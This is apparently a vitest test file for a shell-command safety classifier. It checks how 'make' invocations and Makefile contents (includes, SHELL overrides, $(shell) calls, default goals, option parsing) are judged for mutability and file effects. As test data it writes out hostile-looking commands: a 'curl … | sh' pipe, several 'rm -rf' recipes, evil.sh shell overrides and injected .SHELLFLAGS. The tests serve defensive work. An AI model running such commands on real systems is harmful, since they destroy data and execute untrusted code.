// Issue 9 principle 4: make is proven only as far as its Makefile can be read.
import { describe, expect, it } from 'vitest';
import { TEST_ROOT as ROOT, virtualContext } from '../../../../test/support/classify-context.js';
import { classifyShell } from '../classify-shell.js';

function sh(cmd: string, files: Record<string, string>) {
  return classifyShell(cmd, virtualContext(files));
}

describe('make', () => {
  it('follows include: an included rule is judged, an unreadable include is unproven', () => {
    expect(sh('make test', { Makefile: 'include rules.mk\n', 'rules.mk': 'test:\n\trm -rf build\n' }).effects).toEqual([
      { kind: 'delete', path: `${ROOT}/build` },
    ]);
    expect(sh('make test', { Makefile: 'include missing.mk\ntest:\n\tvitest run\n' }).mutability).toBe('unknown');
    expect(sh('make test', { Makefile: '-include $(wildcard *.mk)\ntest:\n\tvitest run\n' }).mutability).toBe('unknown');
  });

  it('pattern rules and built-in implicit rules build targets without an explicit rule', () => {
    expect(sh('make out.txt', { Makefile: '%.txt: %.in\n\trm -f $@\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/out.txt` }]);
    expect(sh('make main', { Makefile: 'all:\n\techo hi\n', 'main.c': 'int main(){}' }).mutability).toBe('unknown');
    expect(sh('make app', { Makefile: 'app: main.o\n\techo linked\n', 'main.c': 'int main(){}' }).mutability).toBe('unknown');
    expect(sh('make nothing', { Makefile: 'all:\n\techo hi\n' }).mutability).toBe('read');
  });

  it('MAKEFLAGS/MAKEFILES in the environment and -e make it unproven', () => {
    const files = { Makefile: 'test:\n\tvitest run\n' };
    expect(sh('export MAKEFLAGS=-n; make test', files).mutability).toBe('unknown');
    expect(sh('export MAKEFILES=evil.mk; make test', files).mutability).toBe('unknown');
    expect(sh('make -e test', files).mutability).toBe('unknown');
    expect(sh('make test', files).mutability).toBe('check');
  });

  it('+ lines and $(MAKE) lines run under -n and -q; other lines do not', () => {
    const files = { Makefile: 'deploy:\n\t+rm -rf dist\n\techo would deploy\nsafe:\n\techo hi\n\trm -rf x\n' };
    expect(sh('make -n deploy', files).effects).toEqual([{ kind: 'delete', path: `${ROOT}/dist` }]);
    expect(sh('make -q deploy', files).mutability).toBe('write');
    expect(sh('make -n safe', files).mutability).toBe('read');
  });

  it('parse-time $(shell …) runs whatever the target; $(eval)/$(file) are unproven; undefined variables come from the environment', () => {
    expect(sh('make test', { Makefile: 'X := $(shell rm -rf out)\ntest:\n\tvitest run\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/out` }]);
    expect(sh('make test', { Makefile: 'V := $(shell git rev-parse HEAD)\ntest:\n\tvitest run\n' }).mutability).toBe('check');
    expect(sh('make test', { Makefile: '$(eval X := 1)\ntest:\n\tvitest run\n' }).mutability).toBe('unknown');
    expect(sh('make test', { Makefile: 'test:\n\t$(RUNNER) run\n' }).mutability).toBe('unknown');
  });

  it('a check target whose recipe is not proven is not a check', () => {
    expect(sh('make test', { Makefile: 'test:\n\tcurl -s https://example.invalid/x | sh\n' }).mutability).toBe('unknown');
  });
});

describe('make: variables and rules that change what runs', () => {
  const mk = { Makefile: 'test:\n\t@echo ok\n' };
  it('-E/--eval define rules; SHELL and .SHELLFLAGS choose the program that runs recipes', () => {
    expect(sh('make -E "x:;rm -rf src" x', mk).mutability).toBe('unknown');
    expect(sh('make --eval="x:;rm -rf src" x', mk).mutability).toBe('unknown');
    expect(sh('make SHELL=./evil.sh test', mk).mutability).toBe('unknown');
    expect(sh('make test', { Makefile: 'SHELL := ./evil.sh\ntest:\n\t@echo ok\n' }).mutability).toBe('unknown');
    expect(sh('make test', { Makefile: 'SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\ntest:\n\t@echo ok\n' }).mutability).toBe('check');
    expect(sh('make test', { Makefile: '.SHELLFLAGS := -c "rm -rf src;"\ntest:\n\t@echo ok\n' }).mutability).toBe('unknown');
  });
  it('PATH and make control variables set in the Makefile or on the command line', () => {
    expect(sh('make test', { Makefile: 'PATH := ./bin:$(PATH)\ntest:\n\tls\n' }).mutability).toBe('unknown');
    expect(sh('make PATH=./bin test', mk).mutability).toBe('unknown');
    expect(sh('make MAKEFLAGS=-e test', mk).mutability).toBe('unknown');
    expect(sh('make test', { Makefile: '.RECIPEPREFIX = >\ntest:\n> rm -rf src\n' }).mutability).toBe('unknown');
  });
  it('target-specific variables, .DEFAULT, .DEFAULT_GOAL and .ONESHELL', () => {
    expect(sh('make test', { Makefile: 'CMD = echo\ntest: CMD = rm -rf src\ntest:\n\t$(CMD) x\n' }).mutability).toBe('unknown');
    expect(sh('make anything', { Makefile: '.DEFAULT:\n\trm -rf src\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/src` }]);
    expect(sh('make', { Makefile: '.DEFAULT_GOAL := clean\nall:\n\t@echo all\nclean:\n\trm -rf dist\n' }).effects).toEqual([
      { kind: 'delete', path: `${ROOT}/dist` },
    ]);
    expect(sh('make t', { Makefile: '.ONESHELL:\nt:\n\tcd src\n\trm -rf x\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/src/x` }]);
  });
});

describe('make: a plain `-`', () => {
  it('is ignored wherever it stands (GNU make 4.3: `make -` and `make -- -` build the default goal)', () => {
    const files = { Makefile: 'all: build\nbuild:\n\tcc -o app main.c\nsafe:\n\t@echo hi\n' };
    for (const cmd of ['make -', 'make - --', 'make -- -', 'make -k -- -']) expect(sh(cmd, files).mutability, cmd).not.toBe('read');
    expect(sh('make - safe', files).mutability).toBe('read');
    expect(sh('make -- - safe', files).mutability).toBe('read');
  });
});

describe('make: options whose value is optional', () => {
  const files = { Makefile: 'all: build\nbuild:\n\tcc -o app main.c\nsafe:\n\t@echo hi\n', 'main.c': 'int main(){}' };
  it('-j and -l take the next word only when it is a number (GNU make 4.3); -O only an attached value', () => {
    // `-dj -o Makefile`: -j takes no value, -o marks Makefile old, and the default goal builds.
    expect(sh('make -dj -o Makefile', files).mutability).not.toBe('read');
    // A default goal that only prints: the word after -j or -O is a target, not their value.
    const quiet = { Makefile: 'all:\n\t@echo hi\nbuild:\n\tcc -o app main.c\n', 'main.c': 'int main(){}' };
    expect(sh('make -j build', quiet).mutability).not.toBe('read');
    expect(sh('make -O build', quiet).mutability).not.toBe('read');
    expect(sh('make -j', quiet).mutability).toBe('read');
    for (const cmd of ['make -j 4 safe', 'make -dj 4 safe', 'make --jobs 2 safe', 'make -l 2.5 safe', 'make --load .5 safe', 'make -j4 safe', 'make -O safe'])
      expect(sh(cmd, files).mutability, cmd).toBe('read');
  });
});
